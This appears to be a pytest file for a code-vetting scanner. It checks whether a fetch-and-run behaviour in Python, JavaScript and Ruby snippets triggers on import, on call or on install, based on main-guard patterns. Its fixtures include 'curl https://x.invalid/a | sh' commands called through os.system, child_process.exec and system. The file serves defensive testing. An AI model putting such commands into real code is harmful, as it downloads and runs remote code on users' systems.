"""What a module does only where it is started as a program waits; what only seems to be so does not."""

import pytest
from source_lab import INSTALL, the

from beartrap.vet.behaviour import When

RUN = {
    "a.py": 'os.system("curl https://x.invalid/a | sh")',
    "a.js": 'require("child_process").exec("curl https://x.invalid/a | sh")',
    "a.rb": 'system("curl https://x.invalid/a | sh")',
}


def when(path: str, text: str) -> When:
    return the(path, text.replace("RUN", RUN[path]), "process.piped").when


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", 'import os\nif __name__ == "__main__":\n    RUN\n'),
        ("a.py", 'import os\ndef main():\n    RUN\nif "__main__" == __name__:\n    main()\n'),
        ("a.js", "if (require.main === module) { RUN; }\n"),
        ("a.rb", "if __FILE__ == $0\n  RUN\nend\n"),
        ("a.rb", "if $PROGRAM_NAME == __FILE__\n  RUN\nend\n"),
    ],
)
def test_what_runs_as_a_program_waits(path: str, text: str) -> None:
    assert when(path, text) is When.CALL


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", 'import os\nif __name__ == "__main__" or True:\n    RUN\n'),
        ("a.py", 'import os\nif __name__ != "__main__":\n    RUN\n'),
        ("a.py", 'import os\nif __name__ == "__main__":\n    pass\nelse:\n    RUN\n'),
        ("a.py", 'import os\ndef main():\n    RUN\nif __name__ == "__main__":\n    main()\nmain()\n'),
        ("a.js", "if (require.main !== module) { RUN; }\n"),
        ("a.rb", "RUN unless __FILE__ == $0\n"),
    ],
)
def test_what_runs_all_the_same_does_not_wait(path: str, text: str) -> None:
    assert when(path, text) is When.IMPORT


def test_a_script_that_an_installer_starts_is_a_program() -> None:
    text = "if (require.main === module) { " + RUN["a.js"] + "; }\n"
    assert the("install.js", text, "process.piped", INSTALL).when is When.INSTALL
